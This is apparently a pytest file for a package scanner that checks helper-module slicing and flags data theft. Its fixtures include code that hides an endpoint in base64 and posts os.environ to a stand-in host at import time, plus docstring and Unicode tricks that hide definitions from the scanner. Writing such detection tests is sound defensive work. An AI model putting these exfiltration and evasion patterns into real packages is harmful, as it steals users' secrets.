"""The cut of a helper module that summaries read (custody.scan.export_slice)."""

from __future__ import annotations

import ast
import keyword
import textwrap
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from custody.scan import Verdict
from custody.scan.export_slice import exported_slice, exported_tree, may_define, slice_may_hold
from tests.scan.builders import DEFAULT_NAME
from tests.scan.test_flow import scan_package

HELPER = textwrap.dedent(
    '''
    """A helper module: most of it is unrelated to what the importer calls."""
    import base64
    import requests

    ENDPOINT = base64.b64decode("aHR0cHM6Ly8xOTIuMC4yLjcvYw==").decode()


    class Unrelated:
        def method(self):
            return requests.get("https://example.org")


    @staticmethod
    def decorated(
        value: int,
    ) -> int:
        return value + 1


    def unrelated(
        first: str,
        second: str,
    ) -> str:
        """Joins two strings."""
        return first + second


    def _post(payload):
        return requests.post(ENDPOINT, json=payload)


    def send(payload):
        return _post(payload)
    '''
)


def _functions(tree: ast.Module | None) -> list[str]:
    assert tree is not None
    return [s.name for s in tree.body if isinstance(s, (ast.FunctionDef, ast.AsyncFunctionDef))]


def _same_as_whole(source: str, names: frozenset[str]) -> None:
    """The cut gives exactly the tree the slice of the whole parse gives."""
    cut = exported_tree(source.encode(), names)
    whole = exported_slice(ast.parse(source), names)
    assert (ast.dump(cut, include_attributes=True) if cut else None) == (
        ast.dump(whole, include_attributes=True) if whole else None
    )


def test_the_cut_keeps_the_called_functions_their_callees_and_module_statements() -> None:
    tree = exported_tree(HELPER.encode(), frozenset({"send"}))
    assert _functions(tree) == ["_post", "send"]
    assert tree is not None
    assert any(isinstance(s, ast.Assign) for s in tree.body)  # ENDPOINT, which `_post` reads
    _same_as_whole(HELPER, frozenset({"send"}))
    _same_as_whole(HELPER, frozenset({"unrelated", "decorated"}))


DOCSTRING_TRICK = textwrap.dedent(
    '''
    def documented(payload):
        """Sends it.
    Note: this line of the docstring starts at column 0.
    def send(payload): pass
    """
        return send(payload)
    '''
)
"""A column-0 line inside a docstring that looks like the definition of the real helper: a cut of
the source text at such lines parses, and drops `send` (and with it the request) from the slice."""


def test_a_column_zero_line_inside_a_function_does_not_cut_it() -> None:
    source = HELPER + DOCSTRING_TRICK
    _same_as_whole(source, frozenset({"documented"}))
    assert _functions(exported_tree(source.encode(), frozenset({"documented"}))) == [
        "_post",
        "send",
        "documented",
    ]


def test_a_definition_look_alike_in_a_string_does_not_hide_the_real_one() -> None:
    source = 'DOC = """\ndef send(payload):\n    pass\n"""\n' + HELPER
    _same_as_whole(source, frozenset({"send"}))
    tree = exported_tree(source.encode(), frozenset({"send"}))
    assert _functions(tree) == ["_post", "send"]  # the real one and what it calls
    assert tree is not None and isinstance(tree.body[0], ast.Assign)  # DOC stays a string


def test_a_module_that_defines_none_of_the_names_gives_nothing() -> None:
    assert exported_tree(HELPER.encode(), frozenset({"Unrelated", "missing"})) is None
    assert exported_tree(b"def broken(:\n", frozenset({"broken"})) is None


def test_exfil_through_a_helper_in_a_large_module_is_still_followed(tmp_path: Path) -> None:
    init = "import os\nfrom ._net import documented\ndocumented(dict(os.environ))\n"
    files = {f"{DEFAULT_NAME}/__init__.py": init, f"{DEFAULT_NAME}/_net.py": HELPER + DOCSTRING_TRICK}
    verdict, findings = scan_package(tmp_path, files)
    assert verdict is Verdict.MALICIOUS, findings
    assert any(f.startswith("exfil-flow") for f in findings), findings


def test_a_module_without_a_top_level_def_of_the_names_is_not_sliced() -> None:
    # the helpers a module calls are mostly classes or re-exports: no parse is needed to know
    module = b"from ._impl import send\n\nclass Client:\n    def send(self, payload):\n        pass\n"
    assert not may_define(module, frozenset({"send", "Client"}))
    assert exported_tree(module, frozenset({"send", "Client"})) is None
    assert not may_define(b"def sender(): pass\ndef resend(): pass\n", frozenset({"send"}))


@pytest.mark.parametrize(
    "definition",
    [
        "def send(payload):",
        "async  def send(payload):",
        "def \\\nsend(payload):",  # a backslash joins the name to `def`
        "async\\\n def send(payload):",
        "\fdef send(payload):",  # a form feed resets the column
        "def\tsend (payload):",
    ],
)
def test_every_spelling_of_a_top_level_def_is_sliced(definition: str) -> None:
    body = "    return requests.post('https://192.0.2.7/c', data=payload)\n"
    source = f"import requests\n\n{definition}\n{body}"
    assert may_define(source.encode(), frozenset({"send"}))
    assert _functions(exported_tree(source.encode(), frozenset({"send"}))) == ["send"]


def test_a_non_ascii_module_is_parsed_for_names_that_fold_to_the_called_one() -> None:
    # NFKC folds the full-width letter: the parser defines `send`, which no ASCII search finds
    body = "    return requests.post('https://192.0.2.7/c', data=payload)\n"
    source = f"import requests\n\ndef \uff53end(payload):\n{body}"
    assert may_define(source.encode(), frozenset({"send"}))
    assert _functions(exported_tree(source.encode(), frozenset({"send"}))) == ["send"]


_NAMES = st.from_regex(r"[a-z_]{1,6}", fullmatch=True).filter(lambda name: not keyword.iskeyword(name))


@given(
    st.lists(st.tuples(st.sampled_from(["def", "async def", "class"]), _NAMES), max_size=6),
    _NAMES,
)
def test_may_define_is_never_false_for_a_name_the_parser_defines(
    definitions: list[tuple[str, str]], wanted: str
) -> None:
    source = "".join(f"{kind} {name}():\n    pass\n" for kind, name in definitions).encode()
    functions = (ast.FunctionDef, ast.AsyncFunctionDef)
    defined = {s.name for s in ast.parse(source).body if isinstance(s, functions)}
    assert may_define(source, frozenset({wanted})) == (wanted in defined)


def _offsets(source: str, *words: str) -> list[int]:
    return sorted(source.index(word) for word in words)


def test_words_only_in_left_out_code_cannot_reach_the_summaries() -> None:
    # HELPER's requests sit in class Unrelated and in `_post`: summarising `unrelated` meets
    # neither, summarising `send` meets the one in `_post` (which `send` calls)
    words = _offsets(HELPER, "requests.get", "requests.post")
    assert not slice_may_hold(HELPER.encode(), frozenset({"unrelated"}), words)
    assert slice_may_hold(HELPER.encode(), frozenset({"send"}), words)
    assert not slice_may_hold(HELPER.encode(), frozenset({"send"}), words[:1])


def test_a_word_at_module_level_may_reach_every_summary() -> None:
    source = "import os\nTOKEN = os.environ['T']\n\ndef helper(x):\n    return x\n"
    assert slice_may_hold(source.encode(), frozenset({"helper"}), _offsets(source, "environ"))


def test_a_column_zero_line_in_a_kept_docstring_makes_the_module_parsed() -> None:
    # read by lines, the request would belong to the look-alike `def send` (not called, so left
    # out); `documented`'s own text is cut at that line, does not parse alone, and so the module
    # is parsed: the request is in `documented`
    source = textwrap.dedent(
        '''
        def documented(payload):
            """Sends it.
        def send(payload): pass
            """
            requests.post("https://192.0.2.7/c", data=payload)
        '''
    )
    offsets = _offsets(source, "requests.post")
    assert slice_may_hold(source.encode(), frozenset({"documented"}), offsets)
    assert _functions(exported_tree(source.encode(), frozenset({"documented"}))) == ["documented"]


def test_a_definition_the_text_reading_cannot_see_makes_the_module_parsed() -> None:
    source = "class C:\n    def m(self):\n        requests.get('x')\n\ndef \\\nsend(p):\n    return p\n"
    assert slice_may_hold(source.encode(), frozenset({"send"}), _offsets(source, "requests.get"))
    plain = source.replace("def \\\nsend", "def send")
    assert not slice_may_hold(plain.encode(), frozenset({"send"}), _offsets(plain, "requests.get"))


def test_decorators_and_non_ascii_names() -> None:
    source = "@register(requests.post('https://192.0.2.7'))\ndef other():\n    pass\n\n"
    source += "def send(p):\n    return p\n"
    offsets = _offsets(source, "requests.post")
    assert not slice_may_hold(source.encode(), frozenset({"send"}), offsets)  # another's decorator
    assert slice_may_hold(source.encode(), frozenset({"other"}), offsets)
    accented = "# café\n" + source
    assert not slice_may_hold(accented.encode(), frozenset({"send"}), _offsets(accented, "requests.post"))
    # a definition spelt with a letter the parser folds (`ｓend` is `send`) is never left out
    folded = source.replace("def other", "def ｏther").replace("def send", "def ｓend")
    offsets = [folded.encode().index(b"requests.post")]
    assert slice_may_hold(folded.encode(), frozenset({"other"}), offsets)


def test_a_test_module_that_library_code_imports_is_followed_across_modules(tmp_path: Path) -> None:
    # the payload's first half kept in `pkg/tests/`, run at import by `from .tests import probe`:
    # that module is library code, and so are its own imports, which carry the send
    files = {
        f"{DEFAULT_NAME}/__init__.py": "from .tests import probe\n",
        f"{DEFAULT_NAME}/tests/__init__.py": "",
        f"{DEFAULT_NAME}/tests/probe.py": "import os\nfrom .._net import send\n\nsend(dict(os.environ))\n",
        f"{DEFAULT_NAME}/_net.py": HELPER,
    }
    verdict, findings = scan_package(tmp_path, files)
    assert verdict is Verdict.MALICIOUS, findings
    assert any(f.startswith("exfil-flow") for f in findings), findings
